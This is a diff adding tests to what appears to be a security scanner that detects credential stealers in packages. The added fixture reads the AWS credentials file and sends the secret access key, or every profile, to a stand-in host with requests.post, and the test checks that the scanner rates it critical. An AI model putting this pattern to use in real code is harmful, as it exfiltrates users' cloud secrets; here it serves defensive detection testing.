@@ -1,7 +1,7 @@
 """What runs by what stands in settings: words of a table, scripts of a manifest, variables."""
 
 import pytest
-from weighed import program_of, worst_of, worst_script
+from weighed import program_of, worst, worst_of, worst_script
 
 from ostiary.core.scale import Severity
 
@@ -67,3 +67,26 @@ def test_a_script_that_a_hook_starts_by_its_name(script: str, told: bool) -> Non
     manifest = f'{{"name": "sample", "version": "1.0.0", "scripts": {scripts}}}'
     program = program_of("npm", {"package.json": manifest, "index.js": ""})
     assert (worst_of("attack-command", program) is Severity.CRITICAL) is told
+
+
+AWS = """
+import configparser, os, requests
+kept = configparser.ConfigParser()
+kept.read(os.path.join(os.path.expanduser('~'), '{path}'))
+AT = 'https://a.example.invalid/'
+{how}
+"""
+
+
+@pytest.mark.parametrize(
+    "how",
+    [
+        "requests.post(AT, json=kept.get('default', 'aws_secret_access_key'))",
+        "requests.post(AT, json=kept['default']['aws_secret_access_key'])",
+        "for name in kept.sections():\n    requests.post(AT, json=kept.get(name, 'a'))",
+    ],
+)
+def test_credentials_that_are_read_as_settings(how: str) -> None:
+    harm = AWS.format(path=".aws/credentials", how=how)
+    assert worst("stealer", harm, "sample/__init__.py") is Severity.CRITICAL
+    assert worst("stealer", AWS.format(path=".sample.ini", how=how), "sample/__init__.py") is None
